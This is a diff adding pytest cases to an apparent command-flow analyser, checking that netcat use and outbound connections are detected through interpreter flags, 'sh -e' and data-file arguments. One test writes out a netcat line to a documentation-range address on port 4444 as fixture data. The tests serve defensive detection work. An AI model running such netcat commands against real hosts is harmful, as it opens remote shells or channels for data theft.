@@ -878,3 +878,16 @@ def test_glob_is_linear_on_hostile_patterns() -> None:
 def test_script_edited_in_place_keeps_its_text() -> None:
     _, f = flow(("file", "x.sh", "echo v1\n" + SCRIPT), "sed -i 's/v1/v2/' x.sh", "bash x.sh")
     assert "nc" in names(f)
+
+
+@pytest.mark.parametrize("run", ["python3 -W ignore tool.py", "python -X dev tool.py", "python3 -u tool.py"])
+def test_interpreter_options_with_values_before_the_script(run: str) -> None:
+    _, f = flow(("file", "tool.py", PY_SCRIPT), run)
+    assert ("203.0.113.6", 9001) in connects(f)
+
+
+def test_shell_option_before_a_shebang_script_and_data_arguments() -> None:
+    _, f = flow(("file", "x", SCRIPT), "sh -e ./x")
+    assert "nc" in names(f)
+    events, f = flow(("file", "data.txt", "nc 203.0.113.5 4444\n"), "bash run.sh data.txt")
+    assert f.events == () and f.mentions == (write_index(events, "data.txt"),)
